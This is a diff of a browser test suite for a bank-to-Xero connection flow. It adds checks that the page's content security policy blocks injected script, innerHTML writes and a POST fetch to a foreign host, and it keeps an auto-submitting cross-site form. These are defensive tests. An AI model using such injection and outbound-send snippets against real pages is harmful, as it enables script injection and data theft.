@@ -20,14 +20,11 @@ test("in a real browser", async (t) => {
   const browser = await openBrowser();
   t.after(() => browser.close());
   let form = "";
-  const bankSite = await site(t, () => "<h1>Back at the bank</h1>");
   const foreignSite = await site(
     t,
     () => `<h1>Win a prize</h1>${form}<script>document.forms[0].submit()</script>`,
   );
-  const { bank, sandbox } = await testMillrace(t, {
-    settings: { MILLRACE_REDIRECT_URL: `${bankSite}/done/{companyId}` },
-  });
+  const { bank, sandbox } = await testMillrace(t);
   const companyId = await bank.company();
   const { id, linkUrl } = await bank.connection(companyId);
   const page = await browser.newPage();
@@ -44,15 +41,43 @@ test("in a real browser", async (t) => {
     assert.deepEqual(await page.context().cookies(origin), []);
   });
 
+  await t.test("a press that is made twice goes on once", async () => {
+    const twice = await browser.newPage();
+    await twice.goto((await bank.connection(await bank.company())).linkUrl);
+    await twice.getByRole("button", { name: "Continue" }).dblclick();
+    await twice.getByRole("button", { name: "Agree and continue" }).waitFor();
+    await twice.context().close();
+  });
+
+  await t.test("the way leads on even where the accounting software asks nothing", async () => {
+    sandbox.xero.admin.changeSettings({ autoApprove: organisations.czk });
+    const refused: string[] = [];
+    page.on("console", (message) => {
+      if (message.type() === "error" && /Content Security Policy|Trusted/i.test(message.text()))
+        refused.push(message.text());
+    });
+    await page.goto(linkUrl);
+    for (const name of ["Continue", "Agree and continue", "Continue to Xero"])
+      await page.getByRole("button", { name, exact: true }).click();
+    await page.getByRole("heading", { name: "Xero is connected" }).waitFor();
+    assert.equal((await bank.done("GET", `/companies/${companyId}/connections/${id}`)).status, "Linked");
+    assert.equal(new URL(page.url()).search, "", "no address holds a code or state");
+    assert.deepEqual(refused, [], "the policy of the pages is in nobody's way");
+  });
+
   await t.test(
-    "the way leads on to the bank's page even where the accounting software asks nothing",
+    "a page that was injected into cannot run script nor send anything to another host",
     async () => {
-      sandbox.xero.admin.changeSettings({ autoApprove: organisations.czk });
-      await page.goto(linkUrl);
-      await page.getByRole("button", { name: /Continue to Xero/ }).click();
-      await page.getByRole("heading", { name: "Back at the bank" }).waitFor({ timeout: 10_000 });
-      assert.equal(page.url(), `${bankSite}/done/${companyId}`);
-      assert.equal((await bank.done("GET", `/companies/${companyId}/connections/${id}`)).status, "Linked");
+      const said = page.waitForEvent("console", (message) => /Content Security Policy/i.test(message.text()));
+      const outcome = await page.evaluate(`(async () => {
+      const script = document.createElement("script");
+      try { script.textContent = "window.injected = true"; } catch {}
+      try { script.append("window.injected = true"); document.body.append(script); } catch {}
+      try { document.body.innerHTML += "<b>x</b>"; } catch (error) { window.kept = error.name; }
+      const sent = await fetch(${JSON.stringify(foreignSite)}, { method: "POST", body: "x", mode: "no-cors" }).then(() => "sent", () => "kept in");
+      return { injected: window.injected === true, html: window.kept, sent };
+    })()`);
+      assert.deepEqual(outcome, { injected: false, html: "TypeError", sent: "kept in" });
     },
   );
 });
